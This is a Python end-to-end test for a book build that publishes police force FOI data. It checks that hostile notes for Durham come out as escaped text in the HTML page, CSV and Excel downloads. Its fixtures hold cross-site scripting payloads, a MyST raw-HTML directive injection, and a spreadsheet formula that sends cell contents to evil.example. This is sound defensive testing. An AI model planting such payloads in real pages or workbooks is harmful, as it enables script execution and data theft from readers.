"""End to end: a copy of the data whose force notes are hostile builds, and the built force page
and downloads hold the notes as words and text cells (issue 30: a note's script ran on the page,
a note shaped like a MyST directive failed the build, and a formula note was live in the
workbook)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from helpers import DATA, ROOT, run_cli, set_answer, small_data
from openpyxl import load_workbook

pytestmark = pytest.mark.build

NOTES = {  # Durham's answers it did not hold
    "Q2": "<script>window.pwned = 1</script>",
    "Q3": "<svg onload=alert(1)> and [click](javascript:alert(1))",
    "Q4": "Held on paper\n\n```{raw} html\n<script>alert(2)</script>\n```\n\n# Not a heading",
    "Q12": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "Q13": "{eval-rst}`.. raw:: html` **not bold** [x](https://evil.example/)",
}


def test_hostile_notes_build_into_words_and_text_cells(tmp_path: Path):
    # An edition of nine forces, Durham among them: the notes' fate does not depend on how many.
    data_copy = small_data(DATA, tmp_path / "data")
    for qid, note in NOTES.items():
        set_answer(data_copy, "Durham", qid, "ye_mar_2023", note=note)
    out = tmp_path / "out"
    committed = {p.name: p.read_bytes() for p in (ROOT / "book").glob("*.ipynb")}
    result = run_cli("build", "--data-dir", str(data_copy), "--out", str(out))
    assert result.returncode == 0, result.stdout + result.stderr
    page = (out / "html" / "book" / "forces" / "durham.html").read_text(encoding="utf-8")
    body = page[page.index('<article'):page.index("</article>")]
    for bad in ("<script>window.pwned", "<script>alert", "<svg onload", 'href="javascript:',
                'href="https://evil.example', "<strong>not bold</strong>", "<h1>Not a heading"):
        assert bad not in body, bad
    words = re.sub(r"\s+", " ", body)
    assert "Held on paper ```{raw} html &lt;script&gt;alert(2)&lt;/script&gt; ``` # Not a " \
           "heading" in words
    assert "&lt;script&gt;window.pwned = 1&lt;/script&gt;" in words
    # The page goes on after the list: its next section is there.
    assert body.index("What it could not tell us") < body.index("Question by question")
    downloads = out / "html" / "book" / "downloads"
    [returns] = downloads.glob("foi-returns*.csv")
    notes = [r["note"] for r in csv.DictReader(io.StringIO(returns.read_text("utf-8")))]
    assert "'" + NOTES["Q12"] in notes
    [xlsx] = downloads.glob("nsc-data*.xlsx")
    ws = load_workbook(xlsx)["FOI_returns"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert NOTES["Q12"] in [c.value for c in cells]
    # The committed book is untouched by building other data.
    assert {p.name: p.read_bytes() for p in (ROOT / "book").glob("*.ipynb")} == committed
